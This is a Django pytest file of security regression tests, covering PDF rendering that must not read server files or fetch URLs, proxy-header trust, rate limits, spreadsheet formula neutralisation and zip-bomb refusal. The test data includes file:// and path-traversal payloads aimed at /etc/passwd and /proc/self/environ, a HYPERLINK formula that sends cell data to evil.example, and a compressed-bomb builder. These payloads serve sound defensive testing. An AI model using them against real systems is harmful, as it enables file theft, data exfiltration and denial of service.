"""Trust boundaries: each class of hole has one guard, and a test that fails if new code goes around it."""

import ast
import http.server
import io
import re
import threading
import zlib
from pathlib import Path

import pypdf
import pytest
from django.conf import settings

from lib import pdf
from lib.errors import ActionError

SOURCE_DIRS = ["accounts", "api", "audit", "cases", "core", "events", "lib", "methods", "opendoor", "people",
               "referrals", "reports", "safety"]


def project_modules():
    root = Path(settings.BASE_DIR)
    for folder in SOURCE_DIRS:
        for path in (root / folder).rglob("*.py"):
            if "migrations" not in path.parts:
                yield path, ast.parse(path.read_text(encoding="utf-8"))


def imported_names(tree):
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            yield from (alias.name for alias in node.names)
        elif isinstance(node, ast.ImportFrom) and node.module:
            yield node.module


# --- one document renderer ---------------------------------------------------------------------------------

# The certificate benchmark renders the same HTML with WeasyPrint directly: that is its baseline, not a document.
WEASYPRINT_ALLOWED = {"lib/pdf.py", "events/management/commands/bench_certificates.py"}
# (tests/ may import it too: the leak check below proves itself against WeasyPrint's default fetcher.)


def test_only_the_renderer_imports_weasyprint():
    root = Path(settings.BASE_DIR)
    offenders = [str(path.relative_to(root)) for path, tree in project_modules()
                 if any(name.split(".")[0] == "weasyprint" for name in imported_names(tree))
                 and str(path.relative_to(root)) not in WEASYPRINT_ALLOWED]
    assert offenders == []


@pytest.fixture
def secret_file(tmp_path):
    path = tmp_path / "opendoor.sqlite3"
    path.write_bytes(b"SQLite format 3\x00 SECRET-ROW-7f3a meeting notes")
    return path


def pdf_bytes_contain(data, marker):
    """The marker anywhere in the PDF, including inside compressed streams (embedded files are deflated)."""
    chunks = [data]
    for match in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            chunks.append(zlib.decompress(match.group(1)))
        except zlib.error:
            chunks.append(match.group(1))
    return any(marker.encode() in chunk for chunk in chunks)


def test_the_leak_check_finds_an_embedded_file(secret_file):
    """WeasyPrint's own fetcher would embed the file: the check above can see it."""
    from weasyprint import HTML

    data = HTML(string=f'<a rel="attachment" href="file://{secret_file}">db</a>').write_pdf()
    assert pdf_bytes_contain(data, "SECRET-ROW-7f3a")


@pytest.mark.parametrize("markup", [
    '<a rel="attachment" href="file://{path}">db</a>',
    '<link rel="attachment" href="file://{path}">',
    '<img src="file://{path}">',
    '<object data="file://{path}"></object>',
    '<embed src="file://{path}">',
    '<link rel="stylesheet" href="file://{path}">',
    '<div style="background: url(file://{path})">x</div>',
    '<style>@import url("file://{path}");</style>',
    '<a rel="attachment" href="{path}">relative</a>',
    '<a rel="attachment" href="../../../../../../..{path}">relative</a>',
    '<a rel="attachment" href="/static/../../../../../../..{path}">via static</a>',
])
def test_the_renderer_never_reads_a_file_of_the_server(secret_file, markup):
    data = pdf.html_to_pdf(f"<html><body><p>Документ</p>{markup.format(path=secret_file)}</body></html>")
    assert data.startswith(b"%PDF")
    assert not pdf_bytes_contain(data, "SECRET-ROW-7f3a")
    assert pypdf.PdfReader(io.BytesIO(data)).attachments == {}


def test_the_renderer_never_reads_the_process_environment():
    data = pdf.html_to_pdf('<a rel="attachment" href="file:///proc/self/environ">env</a>'
                           '<img src="file:///etc/passwd">')
    assert not pdf_bytes_contain(data, "root:") and not pdf_bytes_contain(data, "PATH=")


def test_the_renderer_makes_no_network_request():
    hits = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        base = f"http://127.0.0.1:{server.server_port}"
        pdf.html_to_pdf(f'<img src="{base}/img"><link rel="stylesheet" href="{base}/css">'
                        f'<a rel="attachment" href="{base}/file">x</a>'
                        f'<div style="background:url({base}/bg)">x</div>'
                        f'<img src="//127.0.0.1:{server.server_port}/schemeless">')
    finally:
        server.shutdown()
    assert hits == []


def test_the_fetcher_refuses_every_scheme_but_inline_data_and_own_static():
    fetcher = pdf.url_fetcher()
    for url in ("file:///etc/passwd", "http://127.0.0.1/", "https://example.org/", "ftp://x/", "gopher://x/",
                "jar:file:///x!/y", "FILE:///etc/passwd", "static:/../../opendoor/settings.py",
                "/static/../opendoor/settings.py", "static:/%2e%2e/opendoor/settings.py"):
        with pytest.raises(Exception):  # noqa: B017 (any refusal will do; WeasyPrint logs it and skips the resource)
            fetcher(url)
    assert fetcher("data:text/plain;base64,0JTQsA==").read() == "Да".encode()


def test_the_renderer_bounds_size():
    with pytest.raises(ActionError):
        pdf.html_to_pdf("<p>" + "x" * (pdf.MAX_HTML_CHARS + 1) + "</p>")


def test_the_renderer_bounds_pages(monkeypatch):
    monkeypatch.setattr(pdf, "MAX_PAGES", 2)
    with pytest.raises(ActionError):
        pdf.html_to_pdf("".join('<p style="page-break-after: always">стр.</p>' for _ in range(5)))


# --- one client address -----------------------------------------------------------------------------------

def test_only_the_address_helper_reads_the_peer_or_forwarding_headers():
    root = Path(settings.BASE_DIR)
    offenders = []
    for path, tree in project_modules():
        if str(path.relative_to(root)) == "lib/net.py":
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and node.value in {
                    "REMOTE_ADDR", "HTTP_X_FORWARDED_FOR", "HTTP_X_REAL_IP", "HTTP_FORWARDED", "X-Forwarded-For",
                    "X-Real-IP"}:
                offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []


def test_the_client_address_believes_only_trusted_proxies(rf, settings):
    from lib.net import client_address

    settings.OPENDOOR_TRUSTED_PROXIES = []
    direct = rf.get("/", REMOTE_ADDR="203.0.113.5", HTTP_X_FORWARDED_FOR="10.9.9.9")
    assert client_address(direct) == "203.0.113.5"  # no proxy configured: a forged header changes nothing
    settings.OPENDOOR_TRUSTED_PROXIES = ["127.0.0.1", "10.0.0.0/8"]
    # nginx appends the peer it saw; whatever the visitor wrote stands to the left and is not believed.
    forged = rf.get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="1.2.3.4, 198.51.100.7")
    assert client_address(forged) == "198.51.100.7"
    chained = rf.get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7, 10.1.1.1")
    assert client_address(chained) == "198.51.100.7"  # a second, internal proxy is skipped
    garbage = rf.get("/", REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7, <script>")
    assert client_address(garbage) == "127.0.0.1"
    outsider = rf.get("/", REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR="198.51.100.7")
    assert client_address(outsider) == "203.0.113.9"  # not from our proxy: its header is ignored


def test_public_registration_is_rate_limited_per_visitor(client, db, settings, make_event):
    import time_machine
    from django.urls import reverse

    from events.models import Registration

    settings.OPENDOOR_REGISTER_PER_MINUTE = 3
    settings.OPENDOOR_TRUSTED_PROXIES = ["127.0.0.1"]
    event = make_event(capacity=100)
    form = {"full_name": "Иванова Анна", "position": "педагог", "agency_name": "СРЦН", "consent": "on"}
    with time_machine.travel("2026-11-30 10:00:05+03:00", tick=False):
        for n in range(5):
            client.post(reverse("event", args=[event.code]), {**form, "email": f"a{n}@example.ru"},
                        REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7")
        page = client.post(reverse("event", args=[event.code]), {**form, "email": "late@example.ru"},
                           REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.7").content.decode()
        assert "Слишком много регистраций с этого адреса" in page
        client.post(reverse("event", args=[event.code]), {**form, "email": "other@example.ru"},
                    REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.8")
    assert Registration.objects.count() == 4
    assert set(Registration.objects.values_list("status", flat=True)) == {Registration.Status.PENDING}


def test_unconfirmed_registrations_hold_no_place_and_expire(db, settings, make_event):
    import time_machine

    from events import actions
    from events.models import Registration

    from .conftest import participant

    settings.OPENDOOR_REGISTRATION_CONFIRM_HOURS = 48
    event = make_event(capacity=1)
    with time_machine.travel("2026-11-01 10:00+03:00"):
        squatters = [actions.register(event, fields=participant(n), consent=True) for n in range(40)]
    assert actions.confirmed_count(event) == 0
    with time_machine.travel("2026-11-02 10:00+03:00"):
        real = actions.register(event, fields=participant(99), consent=True)
        assert actions.confirm_registration(real).status == Registration.Status.CONFIRMED
    with time_machine.travel("2026-11-04 10:00+03:00"):
        with pytest.raises(ActionError):
            actions.confirm_registration(squatters[0])
        assert actions.expire_unconfirmed() == 40
    assert list(Registration.objects.values_list("pk", flat=True)) == [real.pk]


# --- one spreadsheet writer and reader, one upload gate ------------------------------------------------------

def _uses(tree, names):
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            found |= {f"{node.module}.{alias.name}" for alias in node.names} & names
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            found |= {f"{node.value.id}.{node.attr}"} & names
    return found


def test_spreadsheets_are_written_and_read_only_through_lib_sheets():
    root = Path(settings.BASE_DIR)
    banned = {"openpyxl.Workbook", "openpyxl.load_workbook", "openpyxl.workbook.Workbook", "csv.writer",
              "csv.DictWriter"}
    offenders = [f"{path.relative_to(root)}: {sorted(used)}" for path, tree in project_modules()
                 if str(path.relative_to(root)) not in {"lib/sheets.py"} and (used := _uses(tree, banned))]
    # A CSV writer is allowed where every row goes through sheets.csv_values (the same neutralising).
    rows_unchecked = [line for line in offenders
                      if "csv.writer" not in line or "sheets.csv_values" not in (root / line.split(":")[0]).read_text()]
    assert rows_unchecked == []


def test_uploads_are_typed_only_by_the_upload_gate():
    root = Path(settings.BASE_DIR)
    offenders = []
    for path, tree in project_modules():
        if str(path.relative_to(root)) == "lib/uploads.py":
            continue
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module == "lib.uploads":
                offenders += [f"{path.relative_to(root)}: {a.name}" for a in node.names
                              if a.name not in {"accept", "safe_name"}]
    assert offenders == []


@pytest.mark.parametrize("hostile", ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', "+1+2", "-2+3",
                                     "@SUM(1)", "\t=1+1", "Имя\x07\x1b с\x00 управляющими"])
def test_exported_cells_are_text_never_formulas_and_never_break(hostile):
    from openpyxl import load_workbook

    from lib import sheets

    book = sheets.Workbook()
    book.active.append(["Имя", hostile, 42, -5, "-7"])
    extra = book.create_sheet("Ещё")
    extra.cell(row=1, column=1, value=hostile)
    data = sheets.to_bytes(book)
    read = load_workbook(io.BytesIO(data))
    for cell in (read.active["B1"], read["Ещё"]["A1"]):
        assert cell.data_type == "s" and not str(cell.value).startswith("=") or cell.quotePrefix
        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in str(cell.value))
    assert (read.active["C1"].value, read.active["D1"].value, read.active["E1"].value) == (42, -5, "-7")
    assert sheets.csv_values([hostile])[0].startswith("'") or not sheets.is_formula_like(hostile)


def test_participants_export_neutralises_a_registrants_formula(client, cast, make_event):
    from django.urls import reverse
    from openpyxl import load_workbook

    from events import actions

    from .conftest import participant

    event = make_event()
    actions.register(event, fields=participant(1, full_name='=HYPERLINK("http://evil.example","Иванова")\x1b'),
                     consent=True, confirmed=True)
    client.force_login(cast.organiser)
    response = client.get(reverse("event_export", args=[event.code, "participants"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = next(c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.quotePrefix and "\x1b" not in cell.value


def test_a_sparse_sheet_with_a_far_cell_is_read_within_bounds():
    import time

    from openpyxl import Workbook as RawWorkbook

    from lib import sheets

    raw = RawWorkbook()
    raw.active["A1"] = "ФИО"
    raw.active["AZ40000"] = "далеко"
    buffer = io.BytesIO()
    raw.save(buffer)
    assert len(buffer.getvalue()) < 10_000
    buffer.seek(0)
    began = time.process_time()
    assert [row[0] for row in sheets.read_rows(buffer)] == ["ФИО"]  # the far cell lies past the bound and is never read
    assert time.process_time() - began < 5  # bounded work, not 2 million cells (a sanity bound, not a benchmark)
    raw = RawWorkbook()
    for n in range(5002):
        raw.active.append([f"строка {n}"])
    buffer = io.BytesIO()
    raw.save(buffer)
    buffer.seek(0)
    with pytest.raises(ActionError, match="больше 5000 строк"):
        sheets.read_rows(buffer)


def test_a_compressed_bomb_is_refused_before_it_is_unpacked():
    import zipfile as zf

    from lib import sheets

    buffer = io.BytesIO()
    with zf.ZipFile(buffer, "w", compression=zf.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", "<a>" + " " * (80 * 2**20) + "</a>")
    buffer.seek(0)
    with pytest.raises(ActionError, match="больше 60 МБ"):
        sheets.open_book(buffer)


def test_no_redirect_goes_where_the_request_says():
    """Redirect targets come from reverse() or the one checked helper (accounts.views._safe_next), never straight
    from the request: no open redirect."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for path, tree in project_modules():
        source = path.read_text(encoding="utf-8")
        for node in ast.walk(tree):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
                    and node.func.id in {"redirect", "HttpResponseRedirect"} and node.args):
                text = ast.get_source_segment(source, node.args[0]) or ""
                if "request." in text and "request.path" not in text:
                    offenders.append(f"{path.relative_to(root)}:{node.lineno}")
    assert offenders == []


def test_journal_numbers_come_from_one_function():
    """Every path that numbers cases takes the number under the service's lock (cases.models.reserve_journal_numbers);
    nobody computes the maximum of Case.number by hand."""
    root = Path(settings.BASE_DIR)
    offenders = [str(path.relative_to(root)) for path, _tree in project_modules()
                 if 'Max("number")' in path.read_text(encoding="utf-8") and "Case" in path.read_text(encoding="utf-8")
                 and str(path.relative_to(root)) not in {"cases/models.py", "methods/actions.py"}]
    assert offenders == []
